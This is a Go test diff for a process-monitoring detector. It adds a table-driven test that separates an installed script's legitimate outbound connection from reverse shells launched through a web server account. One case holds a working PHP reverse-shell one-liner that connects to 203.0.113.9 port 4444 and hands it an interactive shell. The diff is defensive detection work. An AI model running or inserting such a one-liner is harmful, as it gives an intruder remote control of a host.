@@ -1,6 +1,8 @@
 package detect
 
 import (
+	"path"
+	"strings"
 	"testing"
 
 	"github.com/auditchain/auditchain/parser"
@@ -367,5 +369,35 @@ func TestProgramPlantedAndRun(t *testing.T) {
 	s2.exec(500, 1, 0, "root", "/root", "/usr/bin/bash", "-bash")
 	if f := findingOf(e2.Observe(s2.exec(501, 500, 0, "root", "/root", "/usr/bin/install", "install", "-m", "755", "/root/s", prog), s2.tree), "web-program-planted"); f != nil {
 		t.Errorf("an administrator's install: %s fired", f.Title)
+	}
+}
+
+// TestInstalledScriptConnects: an interpreter running a script installed
+// among the system's programs (php /usr/local/bin/shop-reconcile from the
+// web account's cron) connecting out is the program calling an API, not a
+// reverse shell; inline code, a script elsewhere, or a planted program
+// connecting out still is.
+func TestInstalledScriptConnects(t *testing.T) {
+	for _, c := range []struct {
+		name string
+		args []string
+		want bool
+	}{
+		{"installed script", []string{"/usr/bin/php", "/usr/local/bin/shop-reconcile"}, false},
+		{"installed script with options", []string{"python3", "-u", "/opt/feeds/pull.py"}, false},
+		{"inline code", []string{"php", "-r", "$s=fsockopen('203.0.113.9',4444);exec('/bin/sh -i <&3 >&3 2>&3');"}, true},
+		{"a script in the web root", []string{"/usr/bin/php", "/var/www/html/cache/x.php"}, true},
+		{"a script in a temporary folder", []string{"python3", "/tmp/.x.py"}, true},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			e, s := webShellScene(t)
+			s.exec(300, 1, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
+			s.exec(301, 300, 33, "www-data", "/var/www", "/usr/bin/dash", "/bin/sh", "-c", strings.Join(c.args, " "))
+			s.exec(302, 301, 33, "www-data", "/var/www", "/usr/bin/"+path.Base(c.args[0]), c.args...)
+			fs := e.Observe(s.connect(302, 301, 33, "/usr/bin/"+path.Base(c.args[0]), "127.0.0.1", 9300), s.tree)
+			if got := findingOf(fs, "web-reverse-shell-connect") != nil; got != c.want {
+				t.Errorf("%q connecting out: web-reverse-shell-connect %v, want %v", c.args, got, c.want)
+			}
+		})
 	}
 }
